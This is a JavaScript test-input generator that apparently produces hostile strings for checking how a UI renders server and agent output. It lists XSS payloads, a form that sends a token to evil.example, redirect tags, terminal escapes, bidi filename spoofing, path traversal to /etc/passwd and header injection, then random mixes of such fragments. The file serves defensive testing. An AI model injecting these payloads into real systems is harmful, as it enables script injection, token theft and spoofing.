// What servers and agents may say to whoever looks at it: markup, scripts, terminal escapes, text that hides or reorders text.
import { dice } from './team.mjs';

const texts = [
  '<script>hacked()</script>',
  '"><img src=x onerror=hacked()>',
  "'><svg/onload=hacked()>",
  '</title></textarea></style></script><script>hacked()</script>',
  '<iframe srcdoc="<script>parent.hacked()</script>">',
  '<form action=https://evil.example><input name=token>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<a href="javascript:hacked()">look</a>',
  'javascript:hacked()',
  '{{.}} {{template "x"}} ${hacked()} <%= hacked() %>',
  '<!--', ']]>', '<![CDATA[<script>hacked()</script>]]>', '&lt;script&gt;hacked()&lt;/script&gt;', '&#x3c;script&#x3e;',
  '\u001b[2J\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  'user\u202Egnp.exe', 'a\u2066b\u2069c\u200Fd\u061Ce', 'zero\u200Bwidth\u200Djoined\uFEFF', 'tag\u{E0041}\u{E0042}', 'line\u2028and\u2029paragraph',
  'null\u0000back\bdel\u007Fc1\u0085\u009B31m', 'caf\u00e9 e\u0301\u0301\u0301\u0301', '\ufffd \ud83d\ude00 \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67',
  '../../../etc/passwd', '%2e%2e%2f%00', '?span=1h#x', 'a/b?c=d&e=f#g', '//evil.example/', '\\\\evil.example\\x', 'data:text/html,<script>hacked()</script>',
  '\r\nSet-Cookie: a=b', 'data: {}\n\nevent: x', '__proto__', 'constructor', 'a'.repeat(900), '<b>'.repeat(300), ' ', '.', '..',
];

const parts = ['<', '>', '"', "'", '`', '&', '=', '/', '\\', '{{', '}}', '<script', '</script>', 'onerror=', 'src=x', 'javascript:', 'hacked()', '\u202e', '\u2066', '\u001b[',
  '\u0000', '\u200b', '\u2028', '\n', '\t', ' ', '-->', '<!--', '<svg', '<style', '@import', 'url(', ';', '&#x', 'é', '日本', '😀', 'x'];

/** Yields all that is known, then what chance makes of its parts. */
export function* hostile(seed) {
  yield* texts;
  const random = dice(seed);
  for (;;) {
    let text = '';
    for (let n = 1 + Math.floor(random() * 12); n > 0; n--) text += parts[Math.floor(random() * parts.length)];
    yield text;
  }
}

export const known = texts.length;
